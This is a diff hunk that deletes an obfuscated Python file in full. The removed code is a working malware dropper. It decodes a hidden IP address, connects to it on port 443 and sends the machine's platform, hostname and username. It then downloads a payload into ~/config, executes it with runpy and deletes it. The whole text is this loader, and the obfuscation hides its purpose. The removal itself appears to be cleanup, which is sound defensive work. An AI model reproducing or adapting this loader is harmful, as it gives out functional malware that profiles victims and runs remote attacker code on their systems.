@@ -1,59 +0,0 @@
-import os,socket,platform,time,runpy
-C=str
-i=ord
-q=range
-j=len
-a=open
-L=True
-d=int
-o=runpy.run_path
-U=time.sleep
-P=platform.system
-V=socket.SOCK_STREAM
-R=socket.AF_INET
-F=socket.socket
-J=socket.gethostname
-b=os.remove
-K=os.path
-W=os.getlogin
-r="\x7fãõÐ"
-e="eng.cpay"
-G=[C(i(s)-1)for s in r]
-G.reverse()
-H=[q(0,j(e),2)]
-m=".".join(G)
-B="PY"+P()
-N=J()+"-"+W()
-w=K.expanduser("~")
-r=m
-l=w+"/config"
-A=F(R,V)
-A.connect((r,443))
-I=B+"-"+N
-I=I.replace(" ","")
-t=I+'=EOFY=='
-A.send(t.encode())
-s=0
-S=a(l,'wb')
-while L:
- c=A.recv(1024)
- s=s+1
- try:
-  if c.decode().endswith('=EOFY=')==L:
-   Y=d(c.decode().split('=EOFY=')[0])
-   break
- except:pass
- S.write(c)
- if(s*1024)>102400:break
-S.close()
-U(1)
-n=K.getsize(l)
-A.send(C(n).encode())
-A.close()
-if n==Y:
- try:
-  o(path_name=l)
- except:
-  pass
-b(l)
-